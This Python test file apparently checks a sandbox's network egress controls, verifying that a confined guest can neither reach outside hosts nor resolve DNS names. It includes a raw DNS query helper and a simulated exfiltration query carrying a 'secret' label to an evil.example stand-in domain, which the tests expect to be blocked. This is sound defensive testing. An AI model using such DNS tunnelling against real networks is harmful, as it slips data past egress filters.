"""A hostile guest that wants out: what its rules do not name it neither reaches nor resolves, and names carry nothing out."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from tests.abuse.front import FrontBox
from tests.node.outside import OTHER_PUBLIC, PORT, PUBLIC

if TYPE_CHECKING:
    from tests.live import Live
    from tests.node.outside import Outside

ASK = """
import socket
def ask(*labels, kind=1):
    name = b"".join(bytes([len(one)]) + one for one in labels) + b"\\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5); s.connect(("169.254.0.22", 53))
        s.send(b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + kind.to_bytes(2, "big") + b"\\0\\1")
        return s.recv(999)[3] & 15
"""
HALVES = ["0.0.0.0/1", "128.0.0.0/1"]


def reaches(box: FrontBox, host: str) -> bool:
    return box.run(f"curl -s -m 3 --noproxy '*' http://{host}:{PORT}/")[0] == 0


def python(box: FrontBox, program: str) -> str:
    return box.sh(f"python3 - <<'E'\n{program}\nE")


def test_no_internet_closes_names(named: Live, outside: Outside) -> None:
    """In a create and in an update, in every notation, for every type of query."""
    fields: list[dict[str, Any]] = [{"allow_internet_access": False}, {"network": {"denyOut": HALVES}}, {}]
    for number, more in enumerate(fields):
        box = FrontBox.create(named, **more)
        if number == 2:
            assert reaches(box, "one.example")
            assert outside.asked()
            changed = named.api.put(f"/sandboxes/{box.id}/network", json={"denyOut": HALVES})
            assert changed.status_code == 204
        program = ASK + "print({ask(b'one', b'example'), ask(b'secret', b'evil', b'example', kind=16), ask(b'slow')})"
        assert python(box, program) == "{5}"
        assert not reaches(box, "one.example")
        assert not reaches(box, PUBLIC)
        assert outside.asked() == []
        box.kill()


def test_a_label_with_a_dot_is_no_subdomain(named: Live, outside: Outside) -> None:
    box = FrontBox.create(named, network={"allowOut": ["*.wild.example"], "denyOut": HALVES})
    program = ASK + (
        "print({ask(b'www.wild', b'example'), ask(b'x.wild', b'example'), ask(b'www.wild.example'), ask(b'wild', b'example'), "
        "ask(b'secret', b'wild', b'example', kind=16)}, ask(b'WWW', b'Wild', b'Example'))"
    )
    assert python(box, program) == "{5} 0"
    assert outside.asked() == ["www.wild.example/1"]
    assert reaches(box, PUBLIC)
    assert not reaches(box, OTHER_PUBLIC)
    box.kill()


@pytest.mark.parametrize("deny", [["0.0.0.0/1"], ["::/0"], ["ALL_TRAFFIC"]])
def test_names_need_that_all_else_is_denied(named: Live, deny: list[str]) -> None:
    network = {"allowOut": ["one.example"], "denyOut": deny}
    answer = named.api.post("/v2/sandboxes", json={"templateID": "base", "network": network})
    assert answer.status_code == 400, answer.text
